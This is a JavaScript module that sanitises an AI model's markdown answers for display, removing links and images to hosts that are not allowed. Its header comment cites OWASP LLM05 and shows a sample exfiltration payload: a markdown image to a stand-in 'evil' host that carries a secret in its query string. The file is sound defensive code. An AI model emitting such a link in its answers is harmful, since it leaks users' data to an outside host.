/**
 * Renders an answer's markdown as safe DOM: marked parses it (GitHub tables included), code
 * blocks are highlighted by highlight.js, and DOMPurify sanitises the HTML. Raw HTML in the
 * markdown is shown as text; links and images are kept only when they point to this page's own
 * origin or to an allowed host (OWASP LLM05: a model-written `![x](https://evil/?q=secret)`
 * never loads); a removed image leaves its alt text, a removed link its text.
 */
import hljs from '/vendor/highlight.js';
import { Marked } from '/vendor/marked.js';
import DOMPurify from '/vendor/purify.js';

const escapeHtml = (text) =>
  text.replace(
    /[&<>"']/g,
    (c) => ({ '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&#39;' })[c],
  );

const marked = new Marked({
  gfm: true,
  renderer: {
    // Raw HTML is shown as written, never parsed.
    html: ({ text }) => escapeHtml(text),
    code({ text, lang }) {
      const language = (lang ?? '').trim().split(/\s+/)[0].toLowerCase();
      const known = language !== '' && hljs.getLanguage(language) !== undefined;
      const body = known
        ? hljs.highlight(text, { language, ignoreIllegals: true }).value
        : escapeHtml(text);
      return `<pre><code class="hljs${known ? ` language-${language}` : ''}">${body}</code></pre>\n`;
    },
  },
});

/** Tags DOMPurify would otherwise keep that an answer has no use for. */
const FORBID_TAGS = [
  'audio',
  'button',
  'form',
  'picture',
  'select',
  'source',
  'style',
  'textarea',
  'track',
  'video',
];

/**
 * True when `raw` is this page's own origin, or http(s) on an allowed host or below it; below a
 * name of one label (`intranet`) is a top-level domain, not its subdomains (as the server's guard).
 */
export function urlAllowed(raw, allowedHosts) {
  let url;
  try {
    url = new URL(raw, document.baseURI);
  } catch {
    return false;
  }
  if (url.protocol !== 'http:' && url.protocol !== 'https:') return false;
  if (url.origin === window.location.origin) return true;
  const host = url.hostname.toLowerCase().replace(/\.$/, '');
  return allowedHosts.some(
    (allowed) => host === allowed || (allowed.includes('.') && host.endsWith(`.${allowed}`)),
  );
}

/** What one sanitise pass checks its links and images against. */
let currentHosts = [];

DOMPurify.addHook('afterSanitizeAttributes', (node) => {
  if (node.hasAttribute('href')) {
    if (urlAllowed(node.getAttribute('href'), currentHosts)) {
      node.setAttribute('rel', 'noopener noreferrer nofollow');
      node.setAttribute('target', '_blank');
    } else {
      node.removeAttribute('href');
      node.dataset.removed = 'link';
      node.title = 'Link removed: its host is not allowed';
    }
  }
  if (node.tagName === 'IMG' && !urlAllowed(node.getAttribute('src') ?? '', currentHosts)) {
    node.removeAttribute('src');
    node.dataset.removed = 'image';
  }
});

/**
 * The markdown as a sanitised fragment; `allowedHosts` are bare host names (subdomains
 * included).
 *
 * @example
 * container.replaceChildren(renderMarkdown('**Hi** `code`', ['docs.example.com']));
 */
export function renderMarkdown(markdown, allowedHosts = []) {
  currentHosts = allowedHosts;
  const fragment = DOMPurify.sanitize(marked.parse(markdown), {
    USE_PROFILES: { html: true },
    FORBID_TAGS,
    FORBID_ATTR: ['style', 'srcset', 'ping', 'formaction', 'action', 'background', 'poster'],
    RETURN_DOM_FRAGMENT: true,
  });
  // An image whose source was removed shows its alt text instead (never a broken image).
  for (const img of fragment.querySelectorAll('img[data-removed]')) {
    const alt = img.getAttribute('alt');
    img.replaceWith(`(image removed${alt ? `: ${alt}` : ''})`);
  }
  return fragment;
}
